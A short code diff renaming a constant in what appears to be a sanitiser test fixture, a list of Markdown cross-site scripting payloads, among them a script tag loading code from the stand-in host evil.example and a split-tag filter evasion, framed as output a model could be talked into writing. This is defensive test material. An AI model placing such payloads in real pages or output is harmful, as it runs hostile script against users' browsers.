@@ -2,7 +2,7 @@
  * What a model could be talked into writing. Success would set the global `xss`, open a dialog, or ask `evil.example` for something.
  * Each is a Markdown text; HTML in it is what many Markdown renderers would pass on.
  */
-export const ATTACKS: readonly (readonly [name: string, markdown: string])[] = [
+export const attacks: readonly (readonly [name: string, markdown: string])[] = [
   ["script", "<script>xss=1</script>"],
   ["script with a source", '<script src="https://evil.example/a.js"></script>'],
   ["script, split tags", "<scr<script>ipt>xss=1</scr</script>ipt>"],
